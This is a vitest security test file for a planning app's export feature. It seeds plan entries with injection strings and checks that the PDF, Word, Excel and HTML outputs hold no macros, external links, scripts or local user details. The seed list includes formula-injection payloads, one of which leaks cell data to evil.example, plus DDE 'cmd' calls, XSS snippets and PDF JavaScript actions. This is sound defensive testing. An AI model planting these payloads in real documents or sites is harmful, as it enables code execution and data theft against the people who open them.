import { readdir, readFile } from 'node:fs/promises'
import { hostname, tmpdir, userInfo } from 'node:os'
import { join } from 'node:path'
import { inflateSync } from 'node:zlib'
import { strFromU8, unzipSync } from 'fflate'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Entity } from '../../../shared/model/index.ts'
import { newId, serve, type TestServices } from '../../electron/services/serve.ts'

/** Texts that another program might take for more than texts. */
const dangerous = [
  '=HYPERLINK("http://evil.example/?"&A1,"shiko")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+cmd|/C calc!A0',
  '-2+3+cmd|/C calc!A0',
  '\t=1+1',
  '<script>alert(1)</script><img src="http://evil.example/x.png" onerror="alert(1)">',
  '"><iframe src=javascript:alert(1)>',
  '{ INCLUDEPICTURE "http://evil.example/x.png" }',
  'http://evil.example/ javascript:alert(1) file:///etc/passwd \\\\evil\\share',
  ') /JavaScript (app.alert(1)) /OpenAction (',
]

let services: TestServices
const files = new Map<string, Uint8Array>()

beforeAll(async () => {
  services = await serve({
    dialogs: {
      chooseFolder: async () => null,
      chooseSaveFile: async (name) => join(services.folder, name),
      open: async () => undefined,
      show: () => undefined,
    },
  })
  const { plan } = await services.value('library.sample', {})
  const { entities } = await services.value('plan.open', { plan })
  await services.value('plan.apply', { plan, operations: entities.flatMap(spoilt) })
  const run = { plan, job: newId(), language: 'sq', folder: services.folder } as const
  await services.value('export.run', { ...run, formats: ['pdf', 'docx', 'xlsx', 'html'] })
  const report = { ...run, job: newId(), findings: 'rule' } as const
  await services.value('export.run', { ...report, formats: ['pdf', 'docx', 'xlsx'] })
  await services.value('library.save', { plan })
  for (const name of await readdir(services.folder)) {
    const ending = /\.(pdf|docx|xlsx|html|plv)$/.exec(name)?.[1]
    const kind = name.startsWith('Raporti') ? `report.${ending}` : ending
    if (ending !== undefined) files.set(kind ?? '', await readFile(join(services.folder, name)))
  }
}, 120_000)
afterAll(() => services.close())

/** Puts a dangerous text into every title of the plan. */
function spoilt(entity: Entity, index: number) {
  const text = dangerous[index % dangerous.length] ?? ''
  const values = {
    ...('title' in entity && { title: text.trim() }),
    ...('description' in entity && { description: text }),
    ...(entity.kind === 'swot-item' && { text }),
  }
  return Object.keys(values).length === 0 ? [] : [{ type: 'update' as const, id: entity.id, values }]
}

function bytesOf(ending: string): Uint8Array {
  const bytes = files.get(ending)
  if (bytes === undefined) throw new Error(`no ${ending} was written`)
  return bytes
}

/** The parts of an Office file, as text. */
function parts(ending: string): ReadonlyMap<string, string> {
  const unpacked = Object.entries(unzipSync(bytesOf(ending)))
  return new Map(unpacked.map(([name, bytes]) => [name, strFromU8(bytes)]))
}

/** All that a file says, packed or not; a PDF’s pages stay packed, its objects are not. */
function texts(ending: string): string {
  if (/(?:docx|xlsx)$/.test(ending)) return [...parts(ending)].flat().join('\n')
  return Buffer.from(bytesOf(ending)).toString('latin1')
}

describe('a plan full of traps, printed', () => {
  it.each(['docx', 'xlsx'])('as %s has no macro, no object, no link to elsewhere', (ending) => {
    for (const [name, text] of parts(ending)) {
      expect(name).not.toMatch(/vba|macro|activeX|embeddings|oleObject|externalLink|connections|\.bin$/i)
      if (name.endsWith('.rels'))
        expect(text, name).not.toMatch(/TargetMode="External"|https?:\/\/(?!schemas\.)/)
    }
    expect(parts(ending).get('[Content_Types].xml')).not.toMatch(/macroEnabled|vbaProject/)
  })

  it('as Word asks no field but those of its contents and page numbers', () => {
    for (const [name, text] of parts('docx')) {
      const asked = [...text.matchAll(/<w:instrText[^>]*>([^<]*)|w:instr="([^"]*)"/g)]
      for (const [, long = '', short = ''] of asked)
        expect(`${long}${short}`.trim(), name).toMatch(/^(?:TOC|PAGE|PAGEREF|NUMPAGES|SECTIONPAGES)\b/)
    }
  })

  it('as Excel has only formulas of the program’s own', () => {
    const formulas = [...parts('xlsx')]
      .filter(([name]) => name.startsWith('xl/worksheets/'))
      .flatMap(([, text]) => [...text.matchAll(/<f[^>]*>([^<]*)<\/f>/g)].map(([, formula = '']) => formula))
    expect(formulas.length).toBeGreaterThan(50)
    for (const formula of formulas) expect(formula).not.toMatch(/HYPERLINK|WEBSERVICE|DDE|cmd|\||\[|http/i)
  })

  it('as PDF runs nothing, opens nothing and leads nowhere else', () => {
    const objects = texts('pdf').replaceAll(/stream\r?\n[\s\S]*?endstream/g, '')
    expect(objects).not.toMatch(
      /\/(?:JavaScript|JS|Launch|URI|GoToR|EmbeddedFile|SubmitForm|RichMedia|XFA)\b/,
    )
    // What a title says stands in brackets or as hexadecimal digits, never as a name of the file's own.
    const actions = objects.replaceAll(/\((?:\\[\s\S]|[^\\)])*\)/g, '()')
    expect(actions).not.toMatch(/\/(?:OpenAction|AA)\b/)
  })

  it('as HTML has no script, no handler and nothing to load', () => {
    const page = texts('html')
    expect(page).not.toMatch(
      /<(?:script|iframe|object|embed|link|img|base|form)\b(?![^>]*src="data:image\/)/i,
    )
    expect(page).not.toMatch(/<[^>]*\s(?:on\w+|href="(?!#))/i)
    expect(page).not.toMatch(/@import|url\((?!["']?data:)/i)
  })

  it.each(['pdf', 'docx', 'xlsx', 'html', 'plv', 'report.pdf', 'report.docx', 'report.xlsx'])(
    'as %s tells nothing of this machine or its user',
    (kind) => {
      const said = everything(kind)
      const { username, homedir } = userInfo()
      const places = [
        services.folder,
        tmpdir(),
        `${homedir}/`,
        process.cwd(),
        ...(hostname().length > 5 ? [hostname()] : []),
        'file:///tmp',
      ]
      expect(places.filter((place) => said.includes(place))).toEqual([])
      expect(peopleIn(kind, said)).not.toContain(username)
    },
  )
})

/** All that a file says: packed parts, the streams of a PDF, and texts of two bytes a sign. */
function everything(kind: string): string {
  if (/docx|xlsx/.test(kind)) return texts(kind)
  const bytes = Buffer.from(bytesOf(kind))
  const streams = kind.endsWith('pdf') ? unpackedStreams(bytes) : []
  const hex = [...bytes.toString('latin1').matchAll(/<([0-9a-f]{8,})>/gi)].map(([, digits = '']) =>
    Buffer.from(digits, 'hex'),
  )
  return [bytes, ...streams, ...hex]
    .flatMap((part) => [part.toString('latin1'), part.toString('utf16le'), swapped(part).toString('utf16le')])
    .join('\n')
}

function swapped(bytes: Buffer): Buffer {
  return Buffer.from(bytes.subarray(0, bytes.length - (bytes.length % 2))).swap16()
}

function unpackedStreams(bytes: Buffer): Buffer[] {
  const found: Buffer[] = []
  for (let at = bytes.indexOf('stream\n'); at >= 0; at = bytes.indexOf('stream\n', at + 1)) {
    const end = bytes.indexOf('endstream', at)
    if (bytes.subarray(at - 3, at).toString() === 'end' || end < 0) continue
    try {
      found.push(inflateSync(bytes.subarray(at + 7, end)))
    } catch {
      // Not packed: it stands in the file as it is.
    }
  }
  return found
}

/** Whom a file's own data name as its makers. */
function peopleIn(kind: string, said: string): string[] {
  const named =
    /<(?:dc:creator|cp:lastModifiedBy|Company|Manager)>([^<]*)<|\/(?:Author|Creator|Producer) ?\(([^)]*)\)/g
  const people = [...said.matchAll(named)].map(([, office = '', pdf = '']) => office || pdf)
  if (/docx|xlsx|pdf/.test(kind)) expect(people.length).toBeGreaterThan(0)
  return people
}
